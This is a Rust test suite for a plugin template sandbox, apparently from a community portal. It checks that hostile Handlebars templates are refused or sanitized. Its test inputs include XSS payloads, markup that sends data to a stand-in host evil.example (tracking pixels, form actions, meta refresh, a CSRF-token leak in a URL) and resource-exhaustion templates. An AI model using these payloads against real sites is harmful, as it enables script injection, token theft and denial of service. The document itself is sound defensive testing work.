//! The template sandbox against hostile templates: every class of attack, in variants
//! (names, nesting, whitespace forms, casing). Each refusal must name the plugin, the
//! template and the rule; each failed render fails that render only.

use super::{TemplateError, Templates};
use crate::db::communities::Community;
use crate::db::users::{Role, User};
use crate::portal::Member;
use plugin_api::{CommunityId, Template, TemplateData, UserId};
use serde_json::{Value, json};
use std::time::{Duration, Instant};

const TOKEN: &str = "tok3n-Secret-9f";

fn community() -> Community {
    Community { id: CommunityId(1), slug: "demo".into(), name: "Demo".into(), description: String::new() }
}

fn member() -> Member {
    let user = User {
        id: UserId(7),
        community_id: CommunityId(1),
        email: "a@example.com".into(),
        nickname: "ada".into(),
        name: "Ada".into(),
        bio: String::new(),
        role: Role::Member,
        joined: plugin_api::Timestamp(0),
    };
    Member { user, abilities: Default::default() }
}

fn templates(list: &[(&str, &str)]) -> Vec<Template> {
    list.iter().map(|(name, source)| Template { name: (*name).into(), source: (*source).into() }).collect()
}

/// The host's templates plus `evil`'s.
fn sandbox(list: &[(&str, &str)]) -> Result<Templates, TemplateError> {
    let mut t = Templates::new()?;
    t.register_plugin("evil", &templates(list))?;
    Ok(t)
}

/// Asserts `evil`'s templates are refused, naming the template and the rule.
fn refused(list: &[(&str, &str)], template: &str, rule: &str) {
    match sandbox(list) {
        Ok(_) => panic!("accepted: {list:?}"),
        Err(err) => {
            let shown = err.to_string();
            assert!(
                shown.starts_with(&format!(
                    "plugin `evil`: template `{template}` is refused by the template sandbox: {rule}"
                )),
                "{list:?}: {shown}"
            );
        }
    }
}

fn render(t: &Templates, template: &str, data: Value) -> Result<String, super::RenderFailure> {
    t.render_plugin("evil", template, &TemplateData(data), &community(), &member(), TOKEN, json!({}))
}

fn page(list: &[(&str, &str)], data: Value) -> String {
    let t = sandbox(list).unwrap_or_else(|e| panic!("{e}"));
    render(&t, list[0].0, data).unwrap_or_else(|e| panic!("{e}"))
}

/// A plugin with one good template still renders on the same `Templates`.
fn still_serves(t: &Templates) {
    let mut t2 = Templates::new().expect("host");
    t2.register_plugin("good", &templates(&[("ok", "<p>{{x}}</p>")])).expect("good");
    let ok = t2.render_plugin(
        "good",
        "ok",
        &TemplateData(json!({"x": "fine"})),
        &community(),
        &member(),
        TOKEN,
        json!({}),
    );
    assert_eq!(ok.expect("renders"), "<p>fine</p>");
    let _ = t;
}

// 1 and 2. Partials reach only the plugin's own templates.

#[test]
fn partials_cannot_reach_the_layout_or_host_templates() {
    for (source, partial) in [
        ("{{> layout}}", "layout"),
        ("{{~> layout ~}}", "layout"),
        ("{{ >  layout }}", "layout"),
        ("{{>layout content=x}}", "layout"),
        ("<div>{{#if a}}{{> header_account}}{{/if}}</div>", "header_account"),
        ("{{> slot_actions}}", "slot_actions"),
        ("{{> email_html}}", "email_html"),
        ("{{> LAYOUT}}", "LAYOUT"),
    ] {
        refused(&[("page", source)], "page", &format!("unknown partial: `{{{{> {partial}}}}}`"));
    }
    for source in ["{{> 'layout'}}", "{{> [layout]}}"] {
        refused(&[("page", source)], "page", "unknown partial");
    }
    refused(&[("digest.txt", "{{> email_text}}")], "digest.txt", "unknown partial");
    // The attack itself: the layout's `{{{content}}}` never sees plugin data.
    let html = page(&[("page", "{{content}}")], json!({"content": "<script>alert(1)</script>"}));
    assert_eq!(html, "&lt;script&gt;alert(1)&lt;/script&gt;");
}

#[test]
fn partials_cannot_reach_another_plugin() {
    let mut t = Templates::new().expect("host");
    t.register_plugin("conversations", &templates(&[("about", "<p>secret {{x}}</p>")])).expect("first");
    for (source, partial) in [
        ("{{> plugin/conversations/about}}", "plugin/conversations/about"),
        ("{{> about}}", "about"),
        ("{{~> ../conversations/about}}", "../conversations/about"),
    ] {
        let err = t.register_plugin("evil", &templates(&[("page", source)])).expect_err(source);
        assert!(err.to_string().contains(&format!("unknown partial: `{{{{> {partial}}}}}`")), "{err}");
    }
    // Its own partials work, by plain name, HTML to HTML and text to text.
    t.register_plugin(
        "evil",
        &templates(&[
            ("page", "<div>{{> about}}</div>"),
            ("about", "<p>mine {{x}}</p>"),
            ("m.txt", "{{> sig.txt}}"),
            ("sig.txt", "-- {{x}}"),
        ]),
    )
    .expect("own partials");
    assert_eq!(render(&t, "page", json!({"x": "1"})).expect("page"), "<div><p>mine 1</p></div>");
    let refused_kind = Templates::new()
        .expect("host")
        .register_plugin("evil", &templates(&[("page", "{{> sig.txt}}"), ("sig.txt", "x")]));
    assert!(refused_kind.expect_err("html to text").to_string().contains("unknown partial"));
}

#[test]
fn dynamic_partials_partial_blocks_and_inline_partials_are_refused() {
    for source in ["{{> (lookup this \"name\")}}", "{{~> (whichever) ~}}", "{{> (concat \"lay\" \"out\")}}"] {
        refused(&[("page", source)], "page", "dynamic partial");
    }
    for source in ["{{#> page2}}fallback{{/page2}}", "{{~#> page2 ~}}{{/page2}}", "{{> @partial-block}}"] {
        refused(&[("page", source), ("page2", "x")], "page", "partial block");
    }
    for source in [
        "{{#*inline \"x\"}}hi{{/inline}}{{> x}}",
        "{{#*inline \"r\"}}{{> r}}{{/inline}}{{> r}}",
        "{{~#*inline 'a'~}}{{> b}}{{/inline}}{{#*inline 'b'}}{{> a}}{{/inline}}{{> a}}",
        "{{*inline \"x\"}}",
    ] {
        refused(&[("page", source)], "page", "decorator");
    }
}

#[test]
fn partial_cycles_are_refused_at_load() {
    refused(&[("a", "{{> b}}"), ("b", "{{> a}}")], "a", "partial cycle: a > b > a");
    refused(&[("a", "{{#if x}}{{~> a ~}}{{/if}}")], "a", "partial cycle: a > a");
    refused(
        &[
            ("p1", "{{#each x}}{{> p2}}{{/each}}"),
            ("p2", "{{> p3}}"),
            ("p3", "{{#unless y}}{{> p1}}{{/unless}}"),
        ],
        "p1",
        "partial cycle: p1 > p2 > p3 > p1",
    );
    refused(&[("a.txt", "{{> b.txt}}"), ("b.txt", "{{> a.txt}}")], "a.txt", "partial cycle");
}

// 3. Markup that acts without a click.

#[test]
fn markup_that_redirects_loads_or_runs_is_cleaned() {
    for (source, gone) in [
        ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><p>x</p>", "evil"),
        ("<META HTTP-EQUIV=refresh CONTENT='0;url=//evil.example'><p>x</p>", "evil"),
        ("<base href=\"https://evil.example/\"><p>x</p>", "evil"),
        ("<link rel=preconnect href=https://evil.example><p>x</p>", "evil"),
        ("<link rel=\"dns-prefetch\" href=\"//evil.example\"><p>x</p>", "evil"),
        ("<LINK REL=prefetch HREF=https://evil.example/x><p>x</p>", "evil"),
        ("<p>x</p><img src=\"https://evil.example/pixel.png\">", "evil"),
        ("<p>x</p><img src=\"//evil.example/pixel.png\">", "evil"),
        ("<p>x</p><img src=\"/\\evil.example/pixel.png\">", "evil"),
        ("<p>x</p><img srcset=\"https://evil.example/a.png 1x\">", "evil"),
        ("<picture><source srcset=\"https://evil.example/a.png\"></picture><p>x</p>", "evil"),
        ("<video poster=\"https://evil.example/p.png\"></video><p>x</p>", "evil"),
        ("<style>@import url(https://evil.example/x.css)</style><p>x</p>", "evil"),
        ("<p style=\"background:url(https://evil.example/x)\">x</p>", "evil"),
        ("<form action=\"https://evil.example/steal\"><p>x</p></form>", "evil"),
        ("<form><button formaction=\"//evil.example/\">x</button></form>", "evil"),
        ("<a href=\"java&#x73;cript:alert(1)\">x</a>", "alert"),
        ("<svg><a xlink:href=\"https://evil.example\"><text>x</text></a></svg>", "evil"),
        ("<math><mi xlink:href=\"https://evil.example\">x</mi></math>", "evil"),
        ("<input data-search-url=\"https://evil.example/q\">", "evil"),
        ("<a href=\"/x\" ping=\"https://evil.example\">x</a>", "evil"),
        (
            "<textarea></textarea><noscript><p title=\"</noscript><img src=//evil.example/x>\">x</p></noscript>",
            "evil",
        ),
        ("<div data-live-part=\"header\">x</div>", "live-part"),
    ] {
        let html = page(&[("page", source)], json!({}));
        assert!(!html.to_ascii_lowercase().contains(gone), "{source} → {html}");
        for tag in
            ["<meta", "<base", "<link", "<style", "<script", "<svg", "<math", "<video", "<source", "<picture"]
        {
            assert!(!html.to_ascii_lowercase().contains(tag), "{source} → {html}");
        }
    }
}

#[test]
fn markup_built_from_data_is_cleaned_too() {
    // Data is escaped, but a tag name or URL from data still goes through the sanitizer.
    let list = [("page", "<{{t}} src=\"{{u}}\" {{a}}=\"alert(1)\">x</{{t}}><a href=\"{{u}}\">y</a>")];
    for (t, u, a) in [
        ("script", "https://evil.example/x.js", "onload"),
        ("img", "https://evil.example/p.png", "onerror"),
        ("iframe", "javascript:alert(1)", "onclick"),
        ("IMG", "//evil.example/p", "ONERROR"),
    ] {
        let html = page(&list, json!({"t": t, "u": u, "a": a}));
        let lower = html.to_ascii_lowercase();
        assert!(
            !lower.contains("alert(1)") && !lower.contains(" src=") && !lower.contains("<script"),
            "{html}"
        );
        assert!(!lower.contains("javascript:"), "{html}");
    }
}

#[test]
fn the_csrf_token_appears_only_in_the_hidden_field() {
    let forms = "<form method=\"post\" action=\"{{portal.base}}/x\"><input type=\"hidden\" name=\"csrf\" value=\"{{portal.csrf}}\"></form>\
                 <form method=\"post\" action=\"/c/demo/y\">{{csrf_field}}</form>";
    let html = page(&[("page", forms)], json!({}));
    assert_eq!(
        html.matches(&format!("<input type=\"hidden\" name=\"csrf\" value=\"{TOKEN}\">")).count(),
        2,
        "{html}"
    );
    for leak in [
        "<a href=\"https://evil.example/?t={{portal.csrf}}\">x</a>",
        "<a href=\"/x?t={{portal.csrf}}\">x</a>",
        "<input type=\"text\" name=\"csrf\" value=\"{{portal.csrf}}\">",
        "<input name=\"csrf\" type=\"hidden\" value=\"{{portal.csrf}}\" data-x=\"1\">",
        "<div data-token=\"{{portal.csrf}}\" title=\"{{@root.portal.csrf}}\">{{portal.csrf}}</div>",
        "{{#each portal}}{{this}} {{@key}}{{/each}}",
        "{{#with portal as |p|}}<p class=\"{{p.csrf}}\">{{p.[csrf]}}</p>{{/with}}",
        "<textarea>{{portal.csrf}}</textarea>",
    ] {
        let html = page(&[("page", leak)], json!({}));
        assert!(!html.contains(TOKEN), "{leak} → {html}");
    }
    // A token that is not a plain word is escaped where it goes.
    let t = sandbox(&[("page", "{{csrf_field}}")]).expect("sandbox");
    let odd = t.render_plugin(
        "evil",
        "page",
        &TemplateData(json!({})),
        &community(),
        &member(),
        "\"><script>",
        json!({}),
    );
    assert_eq!(
        odd.expect("renders"),
        "<input type=\"hidden\" name=\"csrf\" value=\"&quot;&gt;&lt;script&gt;\">"
    );
}

// 4. Size, work and time.

#[test]
fn output_past_the_cap_fails_that_render() {
    let t = sandbox(&[("page", "{{#each a}}{{../s}}{{/each}}"), ("ok", "<p>{{x}}</p>")]).expect("sandbox");
    let s = "x".repeat(100 * 1024);
    let Err(err) = render(&t, "page", json!({"a": vec![0; 20], "s": s})) else { panic!("too big, rendered") };
    assert!(err.to_string().contains("output limit"), "{err}");
    assert!(matches!(
        err,
        super::RenderFailure::Limit { limit: super::Limit::Output { bytes: 1_048_576 }, .. }
    ));
    assert_eq!(render(&t, "ok", json!({"x": 1})).expect("the next render works"), "<p>1</p>");
    still_serves(&t);
}

#[test]
fn doubling_partials_are_refused_at_load() {
    // 40 levels of doubling: refused for depth before anything renders.
    let names: Vec<String> = (0..41).map(|i| format!("p{i}")).collect();
    let mut list: Vec<(String, String)> = (0..40)
        .map(|i| (names[i].clone(), format!("{{{{> {n}}}}}{{{{> {n}}}}}", n = names[i + 1])))
        .collect();
    list.push((names[40].clone(), "x".into()));
    let borrowed: Vec<(&str, &str)> = list.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    refused(&borrowed, "p0", "nesting depth");
    // Shallow but wide: 20 partials a level, 6 levels.
    let mut list: Vec<(String, String)> =
        (0..6).map(|i| (format!("w{i}"), format!("{{{{> w{}}}}}", i + 1).repeat(20))).collect();
    list.push(("w6".into(), "<b>x</b>".into()));
    let borrowed: Vec<(&str, &str)> = list.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    refused(&borrowed, "w0", "partial expansion: partials expand to more than 50000 elements");
}

#[test]
fn multiplying_work_fails_quickly_even_when_nothing_is_printed() {
    let a: Vec<u8> = vec![0; 1000]; // about 2 KB as JSON
    for source in [
        "{{#each a}}{{#each @root.a}}{{#each @root.a}}{{/each}}{{/each}}{{/each}}",
        "{{~#each a as |x|~}}{{~#with @root.a~}}{{#each this}}{{#each @root.a}}{{#if x}}{{/if}}{{/each}}{{/each}}{{~/with~}}{{~/each~}}",
        "{{#each a}}{{> inner}}{{/each}}",
    ] {
        let t =
            sandbox(&[("page", source), ("inner", "{{#each @root.a}}{{#each @root.a}}{{/each}}{{/each}}")])
                .expect("sandbox");
        let started = Instant::now();
        let err = render(&t, "page", json!({"a": a})).expect_err(source);
        // The work limit, or on a slow (debug, loaded) machine the time limit first.
        let shown = err.to_string();
        assert!(shown.contains("work limit") || shown.contains("time limit"), "{source}: {shown}");
        assert!(
            started.elapsed() < Duration::from_secs(2),
            "{source}: stopped after {:?}",
            started.elapsed()
        );
        still_serves(&t);
    }
}

// 5. Nesting that would overflow the stack.

#[test]
fn deep_nesting_is_refused_before_handlebars_parses_it() {
    for (open, close) in [
        ("{{#if a}}", "{{/if}}"),
        ("{{~#if a~}}", "{{~/if~}}"),
        ("{{# each a}}", "{{/ each}}"),
        ("{{#with a}}", "{{/with}}"),
    ] {
        let source = format!("{}x{}", open.repeat(5000), close.repeat(5000));
        refused(&[("page", &source)], "page", "nesting depth");
    }
    let chain = format!("{{{{#if a}}}}{}{{{{/if}}}}", "{{else if b}}x".repeat(3000));
    refused(&[("page", &chain)], "page", "nesting depth: more than 256 block tags");
    let parens = format!("{{{{x {}y{}}}}}", "(not ".repeat(3000), ")".repeat(3000));
    refused(&[("page", &parens)], "page", "nesting depth: more than 2048 parentheses");
    let parens = format!("{{{{#if {}y{}}}}}z{{{{/if}}}}", "(not ".repeat(100), ")".repeat(100));
    refused(&[("page", &parens)], "page", "nesting depth");
    // Just under the cap renders (on a test thread's 2 MiB stack).
    let depth = super::MAX_DEPTH;
    let source = format!("{}x{}", "{{#if a}}".repeat(depth), "{{/if}}".repeat(depth));
    assert_eq!(page(&[("page", &source)], json!({"a": true})), "x");
    let source = format!("{}x{}", "{{#if a}}".repeat(depth + 1), "{{/if}}".repeat(depth + 1));
    refused(&[("page", &source)], "page", "nesting depth");
}

#[test]
fn partial_chains_count_toward_the_depth() {
    let mut list: Vec<(String, String)> =
        (0..30).map(|i| (format!("c{i}"), format!("{{{{#if a}}}}{{{{> c{}}}}}{{{{/if}}}}", i + 1))).collect();
    list.push(("c30".into(), "end".into()));
    let borrowed: Vec<(&str, &str)> = list.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    refused(&borrowed, "c0", "nesting depth");
}

// Raw output, helpers, escapes.

#[test]
fn raw_output_in_every_spelling_is_refused() {
    for source in [
        "{{{x}}}",
        "{{& x}}",
        "{{ {x} }}",
        "{{~{x}~}}",
        "{{~ &x ~}}",
        "{{{{raw}}}}{{x}}{{{{/raw}}}}",
        "<p>{{#if a}}{{&x}}{{/if}}</p>",
    ] {
        match sandbox(&[("page", source)]) {
            Ok(_) => panic!("accepted {source}"),
            Err(err) => assert!(err.to_string().contains("raw output"), "{source}: {err}"),
        }
    }
}

#[test]
fn only_allow_listed_helpers_may_be_called() {
    for (source, helper) in [
        ("{{log \"hello\" level=\"error\"}}", "log"),
        ("{{~log x~}}", "log"),
        ("{{#log}}x{{/log}}", "log"),
        ("{{lookup portal \"csrf\"}}", "lookup"),
        ("{{#if (lookup portal 'csrf')}}x{{/if}}", "lookup"),
        ("{{#raw}}x{{/raw}}", "raw"),
        ("{{#whatever}}x{{/whatever}}", "whatever"),
        ("{{concat a b}}", "concat"),
    ] {
        refused(&[("page", source)], "page", &format!("unknown helper: `{helper}`"));
    }
    // Written without arguments, these are data, not helper calls.
    assert_eq!(page(&[("page", "[{{log}}{{lookup}}]")], json!({"log": "l"})), "[l]");
    refused(&[("page", "a \\{{#if x}}")], "page", "escaped mustache");
}

// Emails.

#[test]
fn plugin_email_html_is_cleaned_and_the_layouts_are_out_of_reach() {
    refused(&[("m.html", "{{> email_html}}"), ("m.txt", "x")], "m.html", "unknown partial");
    refused(&[("m.html", "x"), ("m.txt", "{{> email_text}}")], "m.txt", "unknown partial");
    let t = sandbox(&[
        (
            "m.html",
            "<p style=\"margin:0;color:#5b6776;\">{{x}}</p><img src=\"https://evil.example/pixel?u=1\">\
             <p style=\"background:url(https://evil.example/t)\">y</p><meta http-equiv=refresh content=0>\
             <a href=\"{{portal.url}}/conversations\" style=\"color:#2f5d8a;\">Read</a>",
        ),
        ("m.txt", "{{x}} <b>{{portal.url}}</b>"),
    ])
    .expect("sandbox");
    let mail = t
        .render_email(
            "evil",
            "m",
            &TemplateData(json!({"x": "<hi>"})),
            &community(),
            "https://portal.example",
            None,
        )
        .expect("renders");
    assert!(mail.html.contains("<p style=\"margin:0;color:#5b6776;\">&lt;hi&gt;</p>"), "{}", mail.html);
    assert!(
        mail.html.contains(
            "<a href=\"https://portal.example/c/demo/conversations\" style=\"color:#2f5d8a;\">Read</a>"
        ),
        "{}",
        mail.html
    );
    assert!(!mail.html.contains("evil") && !mail.html.contains("<meta http-equiv=refresh"), "{}", mail.html);
    assert!(mail.text.starts_with("<hi> <b>https://portal.example/c/demo</b>"), "{}", mail.text);
    // The output cap counts both parts.
    let t = sandbox(&[("m.html", "{{#each a}}{{../s}}{{/each}}"), ("m.txt", "{{#each a}}{{../s}}{{/each}}")])
        .expect("sandbox");
    let data = json!({"a": vec![0; 6], "s": "y".repeat(100 * 1024)});
    match t.render_email("evil", "m", &TemplateData(data), &community(), "https://p.example", None) {
        Ok(mail) => panic!("{} + {} bytes rendered", mail.html.len(), mail.text.len()),
        Err(err) => assert!(err.to_string().contains("output limit"), "{err}"),
    }
}

// The existing plugin templates pass and keep their markup.

#[test]
fn the_conversations_templates_load_and_keep_their_markup() {
    let list = [
        ("about", include_str!("../../../conversations-plugin/src/templates/about.hbs")),
        ("conversation", include_str!("../../../conversations-plugin/src/templates/conversation.hbs")),
        ("inbox", include_str!("../../../conversations-plugin/src/templates/inbox.hbs")),
        ("new", include_str!("../../../conversations-plugin/src/templates/new.hbs")),
        ("preview", include_str!("../../../conversations-plugin/src/templates/preview.hbs")),
        ("digest.html", include_str!("../../../conversations-plugin/src/templates/digest.html.hbs")),
        ("digest.txt", include_str!("../../../conversations-plugin/src/templates/digest.txt.hbs")),
        ("invitation.html", include_str!("../../../conversations-plugin/src/templates/invitation.html.hbs")),
        ("invitation.txt", include_str!("../../../conversations-plugin/src/templates/invitation.txt.hbs")),
    ];
    let t = sandbox(&list).expect("the conversations templates pass");
    let data = json!({
        "title": "Trip", "id": 4, "acting": "g1", "acting_group": "Hikers", "older_href": "/conversations/4?before=9",
        "participants": [{"name": "Ada", "me": true}, {"name": "Bob", "state": "left"}],
        "messages": [{"mine": true, "initials": "A", "author": "Ada", "group": "Hikers",
            "when": {"iso": "2024-01-01T00:00:00Z", "exact": "1 Jan", "text": "now"},
            "segments": [{"text": "see "}, {"text": "x.org", "href": "https://x.org/"}]}],
        "invited": true, "can_send": true, "error": "Too long", "max_length": 2000, "body": "hi <b> \"q\" 'a' `b` =c &amp;",
        "coc_url": "https://example.org/coc", "muted": false, "block": {"user": 9, "name": "Bob", "blocked": false},
    });
    let inbox = json!({
        "group": "Hikers", "can_start": true, "new_href": "/conversations/new",
        "groups": [{"name": "Hikers", "href": "/conversations?as=g1", "current": true}],
        "conversations": [{"href": "/conversations/4", "initials": "AB", "title": "Trip \"x\"", "unread": 2,
            "invited": true, "muted": true, "preview": "see you = soon",
            "when": {"iso": "2024-01-01T00:00:00Z", "exact": "1 Jan", "text": "now"}}],
        "pages": 3, "page": 2, "prev": "/conversations?page=1", "next": "/conversations?page=3",
    });
    let new = json!({
        "error": "Pick someone", "as_options": [{"value": "", "name": "Me"}, {"value": "g1", "name": "Hikers", "selected": true}],
        "q": "al", "max_participants": 20, "searched": true, "search_error": "Type more",
        "options": [{"value": "user:2", "name": "Alan", "checked": true}, {"value": "group:1", "name": "Hikers", "group": true}],
        "max_length": 2000, "body": "draft", "coc_url": "https://example.org/coc",
    });
    let mut plain = handlebars::Handlebars::new();
    // With no plugin filling them, extension slots render nothing in the sandbox too.
    plain.register_helper(
        "extension_slot",
        Box::new(
            |_: &handlebars::Helper<'_>,
             _: &handlebars::Handlebars<'_>,
             _: &handlebars::Context,
             _: &mut handlebars::RenderContext<'_, '_>,
             _: &mut dyn handlebars::Output|
             -> handlebars::HelperResult { Ok(()) },
        ),
    );
    for (name, source) in &list {
        plain.register_template_string(name, *source).expect("parses");
    }
    for (template, data) in [("conversation", data), ("inbox", inbox), ("new", new), ("new", json!({}))] {
        let html = render(&t, template, data.clone()).expect("renders");
        // The same template outside the sandbox, for comparison.
        let mut raw_data = data;
        raw_data["portal"] = json!({"base": "/c/demo", "csrf": TOKEN});
        let raw = plain.render(template, &raw_data).expect("renders");
        let (html, raw) = (normalise(&html), normalise(&raw));
        let at = html.bytes().zip(raw.bytes()).position(|(a, b)| a != b).unwrap_or(html.len().min(raw.len()));
        let around =
            |s: &str| s.get(at.saturating_sub(80)..(at + 80).min(s.len())).unwrap_or_default().to_owned();
        assert!(html == raw, "{template}: differs at {at}:\n{}\n{}", around(&html), around(&raw));
    }
}

/// Markup as the browser reads it: the sanitizer writes boolean attributes as `x=""`, and
/// handlebars escapes `=`, `'` and `` ` `` where HTML does not need it.
fn normalise(html: &str) -> String {
    html.replace("=\"\"", "").replace("&#x3D;", "=").replace("&#x27;", "'").replace("&#x60;", "`")
}

#[test]
fn template_names_are_plain() {
    for name in ["'about'", "../layout", "plugin/x/about", "", ".hidden", "a b", "[x]"] {
        refused(&[(name, "x")], name, "template name");
    }
    assert!(sandbox(&[("about-2_x.html", "x"), ("digest.txt", "y")]).is_ok());
}

/// `{{extension_slot}}` renders the items the host set, as host markup: labels escaped,
/// placeholders replaced by the placement's parameters (integers or short words only),
/// items whose link needs a parameter the placement lacks left out; a plugin cannot set
/// `portal.extensions` itself.
#[test]
fn extension_slots_render_the_hosts_items_with_checked_parameters() {
    let t = sandbox(&[
        ("page", "<ul>{{#each messages}}<li>{{extension_slot \"evil.actions\" conversation=../id message=id}}</li>{{/each}}</ul>"),
        ("bad", "{{extension_slot \"evil.actions\" conversation=\"a b\" message=1}}"),
    ])
    .expect("accepted");
    let items = json!({ "evil.actions": [
        { "plugin": "mod", "key": "report", "label": "<b>Report</b>",
          "link": "/c/demo/moderation/report?conversation={conversation}&message={message}" },
        { "plugin": "mod", "key": "quote", "label": "Quote", "link": "/c/demo/quote/{author}" },
    ]});
    let data = json!({ "id": 4, "messages": [{ "id": 9 }],
        "portal": { "extensions": { "evil.actions": [{ "label": "Forged", "link": "https://evil.example/" }] } } });
    let html = t
        .render_plugin("evil", "page", &TemplateData(data), &community(), &member(), TOKEN, items.clone())
        .expect("renders");
    assert!(
        html.contains("href=\"/c/demo/moderation/report?conversation=4&amp;message=9\""),
        "parameters replaced: {html}"
    );
    assert!(html.contains("&lt;b&gt;Report&lt;/b&gt;"), "the label is text: {html}");
    assert!(!html.contains("Quote"), "an item needing a missing parameter is left out: {html}");
    assert!(!html.contains("Forged"), "the plugin's own `portal` is replaced by the host's: {html}");
    let err = t
        .render_plugin("evil", "bad", &TemplateData(json!({})), &community(), &member(), TOKEN, items)
        .expect_err("a parameter with a space is refused");
    assert!(err.to_string().contains("parameter `conversation`"), "{err}");
    // Nobody fills the slot: nothing at all.
    assert_eq!(
        render(&t, "page", json!({ "id": 4, "messages": [{ "id": 9 }] })).expect("renders"),
        "<ul><li></li></ul>"
    );
}
